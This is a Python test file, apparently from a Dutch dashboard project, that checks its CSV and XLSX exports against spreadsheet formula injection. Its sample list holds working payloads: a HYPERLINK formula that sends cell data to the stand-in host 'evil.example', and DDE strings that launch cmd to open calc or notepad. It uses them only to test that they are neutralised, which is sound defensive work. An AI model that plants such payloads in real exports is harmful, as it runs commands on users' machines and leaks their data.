"""No download carries a live formula: CSV and XLSX, every table export.

Read back as Excel would: openpyxl for XLSX (no cell of type formula, the text exactly as
typed), the csv module for CSV (no field a spreadsheet would evaluate). Numbers stay numbers.
"""

from __future__ import annotations

import csv
import io
import re
from datetime import date
from pathlib import Path

import pandas as pd
from openpyxl import load_workbook

from monitor.data import sandbox
from monitor.export.tables import to_dutch_csv, to_xlsx

REPO = Path(__file__).resolve().parents[2]

DANGEROUS = [
    "=1+1", "=HYPERLINK(\"http://evil.example/?\"&A1, \"klik\")", "+31 6 12345678", "-2+3+cmd|' /C calc'!A0",
    "@SUM(A1:A9)", "\t=1+1", "\r=1+1", "  =1+1", "=cmd|' /C notepad'!'A1'", "-=1", "+", "@",
    "=DDE(\"cmd\";\"/C calc\";\"__DdeLink_60_870516294\")",
]
HARMLESS = ["-5", "-1,5", "+3", "12,5%", "gewoon een notitie", "a=b", "e-mail: x@y.nl", ""]
# What Excel (or LibreOffice) evaluates when a CSV field starts with it.
EVALUATED = re.compile(r"^[ ]*[=+\-@\t\r]")
NUMBER = re.compile(r"^[+-]?(\d+([.,]\d+)*|[.,]\d+)([eE][+-]?\d+)?%?$")


def _frame(texts: list[str]) -> pd.DataFrame:
    return pd.DataFrame({
        "Notitie": texts,
        "Waarde": [float(i) - 3.5 for i in range(len(texts))],
        "Aantal": list(range(-2, len(texts) - 2)),
        "Datum": [date(2025, 1, 1)] * len(texts),
    })


def _csv_fields(data: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig")), delimiter=";"))


def _assert_no_live_csv_field(rows: list[list[str]]) -> None:
    for row in rows:
        for field in row:
            assert not (EVALUATED.match(field) and not NUMBER.match(field.strip())), repr(field)


def _assert_no_formula_cell(data: bytes) -> list:
    sheet = load_workbook(io.BytesIO(data)).active
    cells = [cell for row in sheet.iter_rows() for cell in row]
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    return cells


def test_csv_neutralises_every_dangerous_text_and_keeps_numbers():
    frame = _frame(DANGEROUS + HARMLESS)
    rows = _csv_fields(to_dutch_csv(frame, footer_lines=["=1+1 in de voettekst"]))
    _assert_no_live_csv_field(rows)
    notes = [row[0] for row in rows[1:1 + len(frame)]]
    for original, written in zip(DANGEROUS, notes):
        assert written == "'" + original  # OWASP: a leading quote, the text itself kept
    assert notes[len(DANGEROUS):] == HARMLESS  # plain text and numbers-as-text untouched
    # numeric columns are numbers in Dutch notation, negative ones too
    assert rows[1][1] == "-3,5" and rows[1][2] == "-2"


def test_xlsx_stores_every_dangerous_text_as_text_and_keeps_numbers():
    frame = _frame(DANGEROUS + HARMLESS)
    data = to_xlsx(frame, footer_lines=["@voettekst"], title="=titel", sheet_name="Data")
    cells = _assert_no_formula_cell(data)
    sheet = load_workbook(io.BytesIO(data)).active
    notes = [sheet.cell(row=4 + i, column=1) for i in range(len(frame))]
    assert [c.value for c in notes[:len(DANGEROUS)]] == DANGEROUS  # exactly as typed ...
    assert all(c.data_type == "s" and c.quotePrefix for c in notes[:len(DANGEROUS)])  # ... never evaluated
    assert all(not c.quotePrefix for c in notes[len(DANGEROUS):] if c.value)
    numbers = [sheet.cell(row=4, column=2), sheet.cell(row=4, column=3)]
    assert [c.value for c in numbers] == [-3.5, -2] and all(c.data_type == "n" for c in numbers)
    assert any(c.value == "@voettekst" and c.quotePrefix for c in cells)


def test_column_names_cannot_carry_a_formula():
    frame = pd.DataFrame({"=cmd|' /C calc'!A0": [1], "@naam": ["x"]})
    rows = _csv_fields(to_dutch_csv(frame))
    _assert_no_live_csv_field(rows)
    cells = _assert_no_formula_cell(to_xlsx(frame))
    assert cells[0].value == "=cmd|' /C calc'!A0" and cells[0].quotePrefix


def test_sql_page_downloads_are_neutralised():
    result = sandbox.run_select("select '=1+1' as a, '@SUM(A1)' as \"=b\", -5 as c, '-2+3' as d, "
                                "'\t=1' as e")
    frame = result.frame
    rows = _csv_fields(to_dutch_csv(frame, footer_lines=["Query: select '=1+1'"]))
    _assert_no_live_csv_field(rows)
    cells = _assert_no_formula_cell(to_xlsx(frame, footer_lines=["Query: x"], title="SQL-resultaat"))
    values = {c.value for c in cells}
    assert {"=1+1", "@SUM(A1)", "-2+3", -5} <= values


def test_every_table_export_goes_through_the_neutralising_writers():
    """CSV and XLSX are written in one module only, so no export can bypass the neutralising."""
    writers = re.compile(r"\.to_csv\(|csv\.writer\(|Workbook\(|\.to_excel\(|xlsxwriter")
    offenders = []
    for folder in ("monitor", "ui", "pages"):
        for path in (REPO / folder).rglob("*.py"):
            if path.relative_to(REPO).as_posix() == "monitor/export/tables.py":
                continue
            if writers.search(path.read_text(encoding="utf-8")):
                offenders.append(path.relative_to(REPO).as_posix())
    assert offenders == []
    assert writers.search((REPO / "dashboard.py").read_text(encoding="utf-8")) is None
